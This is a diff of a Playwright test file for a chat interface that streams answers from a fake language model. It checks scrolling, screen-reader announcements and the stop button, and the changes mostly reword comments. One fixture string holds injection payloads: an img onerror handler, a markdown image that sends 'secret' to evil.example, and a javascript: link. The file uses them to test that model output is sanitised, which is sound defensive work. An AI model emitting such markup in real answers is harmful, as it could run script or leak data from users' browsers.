@@ -1,4 +1,4 @@
-// Answers as they are written, by a language model that is a small server of our own: shown, spoken, stopped, and safe.
+// Streamed answers from a fake language model: shown, announced, stopped, and safe.
 import type { Page } from "playwright-core";
 import { afterAll } from "vitest";
 import { startFakeModel, supported } from "../test/fake-model.ts";
@@ -22,7 +22,7 @@ import { nextFrames } from "./visitor.ts";
 const question = "How long does a project take?";
 const sentences = supported(24);
 const slowly = { kind: "say", pieces: sentences.join("").match(/\S+\s*/g) ?? [], pauseMs: 15 } as const;
-/** For two minutes. */
+/** An answer that takes two minutes. */
 const endlessly = { kind: "say", pieces: supported(600), pauseMs: 200 } as const;
 
 const model = await startFakeModel();
@@ -30,7 +30,7 @@ afterAll(() => model.close());
 
 const test = testWith({ AI_BASE_URL: model.url, AI_MODEL: "fake-1", AI_ANSWER_SECONDS: "60" });
 
-test("[CHAT-28] [A17,A19] streams an answer without moving a reader who scrolled up, and announces a sentence every 2 s at most", async ({
+test("[CHAT-28] [A17] [A19] streams an answer without moving a reader who scrolled up, and announces a sentence every 2 s at most", async ({
   page,
 }) => {
   const { promise: until, resolve: finish } = Promise.withResolvers<void>();
@@ -114,7 +114,7 @@ test.for([
     const page = await openPage(screen);
     await openChat(page);
     await begin(page);
-    /** Where the last question and its answer begin, in pixels below the list's top. */
+    /** Returns where the last question and its answer begin, in px below the list's top. */
     const places = async () => {
       const [view, asked, answer] = [
         await boxOf(list(page)),
@@ -171,7 +171,7 @@ test("the stop button ends an answer and keeps its text; leaving the page ends i
 const hostile =
   'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) [tell](mailto:evil@evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';
 
-/** Nothing but links to our own pages may have come of it; that no request left is watched by every page. */
+/** Expects the answer to contain nothing but links to our own pages. Requests are checked on every page. */
 async function expectHarmless(page: Page) {
   const answer = messages(page, "assistant");
   await expect.poll(() => answer.locator("img, iframe, script, style, form").count()).toBe(0);
